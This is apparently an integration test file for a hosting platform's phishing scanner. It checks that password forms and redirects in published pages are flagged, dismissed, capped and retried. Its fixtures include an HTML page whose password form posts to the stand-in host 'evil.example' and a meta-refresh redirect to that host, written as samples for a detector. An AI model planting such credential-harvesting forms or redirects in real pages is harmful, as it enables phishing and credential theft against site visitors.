/** A scan from what is published to what an operator sees, over the wire. */
import { ApplicationFailure } from '@temporalio/common';
import { MockActivityEnvironment } from '@temporalio/testing';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { scanningActivities } from '#activities/scanning.ts';
import { Deployment } from '#db/deployments/deployment.ts';
import { Flag } from '#db/scanning/flag.ts';
import { overdueScans, restartScans } from '#db/scanning/transitions.ts';
import { Sketch } from '#db/sketches/sketch.ts';
import { type Caller, createSite } from '#test/api/fixture.ts';
import { sha256 } from '#test/output/fixture.ts';
import { activityFaults } from '#test/publishing/activity-faults.ts';
import { aroundActivities } from '#test/stack/worker.ts';
import { createScanningFixture, type ScanningFixture } from './fixture.ts';

const { around, interceptors } = aroundActivities();
let fixture: ScanningFixture;
beforeAll(async () => {
  fixture = await createScanningFixture({ interceptors });
}, 60_000);
afterAll(() => fixture?.close());

const soon = { timeout: 15_000, interval: 50 };
const form = (words = '') =>
  `<!doctype html><title>T</title>${words}<form action="https://evil.example/"><input type="password"></form>`;
const scanned = async (id: string) => (await fixture.deps.em().findOneOrFail(Deployment, { id })).scannedAt;
/** Live by other hands than the wire's, which is quicker. */
const show = ({ accountId }: Caller, { id }: { id: string }, files: Record<string, string>) =>
  fixture.publish(id, accountId, files);
const untilScanned = (id: string) => expect.poll(() => scanned(id), soon).toBeInstanceOf(Date);

test('a published version is live before it is flagged, once per file and kind', async () => {
  const owner = await fixture.newCaller();
  const site = await createSite(owner);
  const id = await fixture.upload(owner, site, { 'index.html': form(), 'in/index.html': form(), 'fine.html': '<p>x' });
  const began = performance.now();
  await untilScanned(id);
  expect(performance.now() - began).toBeLessThan(10_000);
  const flags = await fixture.flagsOf(site);
  expect(flags).toMatchObject([
    { path: 'in/index.html', kind: 'password_form', excerpt: 'https://evil.example/', open: true, site: site.name },
    { path: 'index.html', kind: 'password_form', account_id: owner.accountId, blocked: false },
  ]);
  expect(await fixture.operate('flags', 'show', '--flag', flags[0].id)).toMatchObject({
    id: flags[0].id,
    deployment_id: id,
  });
  // Nothing of it shows to its owner, and nothing is stopped.
  expect((await fixture.visit(site.name, '/')).status).toBe(200);
  expect((await owner.call('GET', `/v1/deployments/${id}`)).text).not.toContain('flag');
});

test('dismissed flags stay dismissed for the same bytes, and unchanged files are not read', async () => {
  const owner = await fixture.newCaller();
  const site = await createSite(owner);
  await untilScanned(await show(owner, site, { 'index.html': form() }));
  const [flag] = await fixture.flagsOf(site);
  const dismissed = await fixture.operate('flags', 'dismiss', '--flag', flag.id, '--reason', 'A school for testers.');
  expect(dismissed).toEqual({ id: flag.id, dismissed_at: expect.any(String) });
  const publish = async (files: Record<string, string>) => {
    await untilScanned(await show(owner, site, files));
    return (await fixture.flagsOf(site)).map(({ id, path }: { id: string; path: string }) => [id === flag.id, path]);
  };
  expect(await publish({ 'index.html': form(), 'a.html': '<p>new' })).toEqual([]);
  expect(await publish({ 'index.html': '<p>mended' })).toEqual([]);
  expect(await publish({ 'index.html': form('other') })).toEqual([[true, 'index.html']]);
  await fixture.operate('flags', 'dismiss', '--flag', flag.id, '--reason', 'The same.');
  expect(await publish({ 'index.html': '<p>mended' })).toEqual([]);
  for (let n = 0; n < 3; n++) await publish({ 'index.html': `<p>${n}` });
  // Older than what is known to have been scanned: read again, and known to have been dismissed.
  expect(await publish({ 'index.html': form() })).toEqual([]);
  expect((await fixture.operate('flags', 'list', '--all', '--site', site.id)).items).toMatchObject([{ open: false }]);
});

test('own domains, the platform’s forms and the own address are not foreign', async () => {
  const owner = await fixture.newCaller();
  const site = await createSite(owner);
  const own = [site.address, '/in', `http://${site.name}.sites.localhost/x`].map(
    (action) => `<form action="${action}"><input type="password"></form>`,
  );
  const ours = `<form action="${fixture.config.baseUrl}/f/form_1"><input name="email"></form>`;
  await untilScanned(await show(owner, site, { 'index.html': own.join('') + ours }));
  expect(await fixture.flagsOf(site)).toEqual([]);
});

test('a sketch is scanned, and a restore is not scanned again', async () => {
  const owner = await fixture.newCaller();
  const body = { title: 'S', directions: [{ name: 'One', html: form() }] };
  const { id } = (await owner.call('POST', '/v1/sketches', { body })).body;
  const row = () => fixture.deps.em().findOneOrFail(Sketch, { id });
  await expect.poll(async () => (await row()).scannedAt, soon).toBeInstanceOf(Date);
  const { items } = await fixture.operate('flags', 'list');
  const of = items.find((one: { sketch_id?: string }) => one.sketch_id === id);
  expect(of).toMatchObject({ kind: 'password_form', path: 'direction-1.html', account_id: owner.accountId });

  const site = await createSite(owner);
  const first = await show(owner, site, { 'index.html': '<p>1' });
  await untilScanned(first);
  const at = await scanned(first);
  await untilScanned(await show(owner, site, { 'index.html': '<p>2' }));
  expect((await owner.call('POST', `/v1/deployments/${first}/restore`)).status).toBe(200);
  expect(await scanned(first)).toEqual(at);
  const sent = await fixture.deps
    .em()
    .execute<unknown[]>('select 1 from outbox where workflow_id = ?', [`scan:${first}`]);
  expect(sent).toHaveLength(1);
});

test('a lost scan is restarted, and a site’s number of flags is bounded', async () => {
  const owner = await fixture.newCaller();
  const site = await createSite(owner);
  const many = Object.fromEntries(Array.from({ length: 120 }, (_, n) => [`${n}.html`, form(String(n))]));
  const id = await show(owner, site, many);
  await untilScanned(id);
  // A start while the workflow is still closing would only return that one.
  await fixture.deps.temporal.workflow.getHandle(`scan:${id}`).result();
  const count = () => fixture.deps.em().count(Flag, { site: site.id });
  // One for each of the most, and one that says that there are more.
  expect(await count()).toBe(101);
  const [whole] = (await fixture.flagsOf(site)).filter(({ path }: { path: string }) => path === '/');
  expect(whole).toMatchObject({ kind: 'unread', excerpt: expect.stringMatching(/^20 more findings /) });
  await fixture.deps.em().nativeDelete(Flag, { site: site.id });
  await fixture.deps.em().nativeUpdate(Deployment, { id }, { scannedAt: null });
  await fixture.deps.em().execute(`delete from outbox where workflow_id = ?`, [`scan:${id}`]);
  fixture.skip(6 * 60_000);
  const lost = await overdueScans(fixture.deps.em(), fixture.clock);
  expect(lost).toContainEqual({ id, site: site.id });
  await restartScans(fixture.deps.em(), fixture.clock, lost);
  await untilScanned(id);
  expect(await count()).toBe(101);
});

test('decoys do not hide worse content, in the same version or a later one', async () => {
  const owner = await fixture.newCaller();
  const site = await createSite(owner);
  const leads = '<meta http-equiv="refresh" content="0;url=https://evil.example/">';
  const decoys = Object.fromEntries(Array.from({ length: 101 }, (_, n) => [`${n}.html`, `${leads}${n}`]));
  const kinds = async (kind: string) =>
    (await fixture.flagsOf(site))
      .filter((one: { kind: string }) => one.kind === kind)
      .map(({ path }: { path: string }) => path);
  await untilScanned(await show(owner, site, { ...decoys, 'z.html': form() }));
  expect([await kinds('password_form'), (await kinds('redirect')).length, await kinds('unread')]).toEqual([
    ['z.html'],
    99,
    ['/'],
  ]);
  await untilScanned(await show(owner, site, { ...decoys, 'zz.html': form() }));
  expect(await kinds('password_form')).toEqual(['z.html', 'zz.html']);
  // What is flagged already has its newer bytes, also where no more are flagged.
  const id = await show(owner, site, { ...decoys, '5.html': `${leads}new` });
  await untilScanned(id);
  expect(await fixture.deps.em().count(Flag, { site: site.id, path: '5.html', deployment: id })).toBe(1);
});

test('unread files are not known, and a version with a lost manifest is retried', async () => {
  const owner = await fixture.newCaller();
  const site = await createSite(owner);
  const { store } = fixture.deps;
  const [read, readAll] = [store.read.bind(store), store.readAll.bind(store)];
  const hash = sha256(form());
  let lists = 0;
  store.read = async (one, ...rest) => (one === hash ? undefined : await read(one, ...rest));
  store.readAll = async (one, ...rest) => (++lists === 1 ? undefined : await readAll(one, ...rest));
  try {
    await untilScanned(await show(owner, site, { 'index.html': form() }));
  } finally {
    Object.assign(store, { read, readAll });
  }
  expect(lists).toBeGreaterThan(1);
  expect(await fixture.flagsOf(site)).toMatchObject([{ path: 'index.html', kind: 'unread' }]);
  await untilScanned(await show(owner, site, { 'index.html': form(), 'a.html': '' }));
  expect((await fixture.flagsOf(site)).map(({ kind }: { kind: string }) => kind).sort()).toEqual([
    'password_form',
    'unread',
  ]);
});

test('an unreadable version is flagged once, and read with the next', async () => {
  const owner = await fixture.newCaller();
  const site = await createSite(owner);
  around.set('scanFiles', () => Promise.reject(ApplicationFailure.nonRetryable('the last try')));
  around.set('giveUpScan', activityFaults['runs again after its report']);
  await untilScanned(await show(owner, site, { 'index.html': form() }));
  expect(await fixture.flagsOf(site)).toMatchObject([{ path: '/', kind: 'unread' }]);
  await untilScanned(await show(owner, site, { 'index.html': form(), 'a.html': '' }));
  expect((await fixture.flagsOf(site)).map(({ path }: { path: string }) => path)).toEqual(['/', 'index.html']);
});

test('a process runs one scan at a time, and the next one waits', async () => {
  const owner = await fixture.newCaller();
  const [one, other] = [await createSite(owner), await createSite(owner)];
  const { scanFiles } = scanningActivities(fixture.deps);
  const context = () => new MockActivityEnvironment();
  const { store } = fixture.deps;
  const id = await show(owner, one, { 'index.html': '<p>1' });
  await untilScanned(id);
  await fixture.deps.em().nativeUpdate(Deployment, { id }, { scannedAt: null });
  const readAll = store.readAll.bind(store);
  const reached = Promise.withResolvers<void>();
  const go = Promise.withResolvers<void>();
  store.readAll = async (...given) => {
    reached.resolve();
    await go.promise;
    return await readAll(...given);
  };
  try {
    const first = context().run(scanFiles, id);
    await reached.promise;
    expect(await context().run(scanFiles, id)).toEqual({ files: 0, flags: 0, busy: true });
    go.resolve();
    expect(await first).not.toHaveProperty('busy');
  } finally {
    go.resolve();
    store.readAll = readAll;
  }
  around.set('scanFiles', async () => ({ files: 0, flags: 0, busy: true }));
  await untilScanned(await show(owner, other, { 'index.html': form() }));
  expect(await fixture.flagsOf(other)).toHaveLength(1);
});

test.each(Object.keys(activityFaults) as (keyof typeof activityFaults)[])(
  'a scan that %s flags once',
  async (fault) => {
    const owner = await fixture.newCaller();
    const site = await createSite(owner);
    around.set('scanFiles', activityFaults[fault]);
    const id = await show(owner, site, { 'index.html': form() });
    await untilScanned(id);
    await expect.poll(() => around.size, soon).toBe(0);
    expect(await fixture.deps.em().count(Flag, { site: site.id })).toBe(1);
  },
);
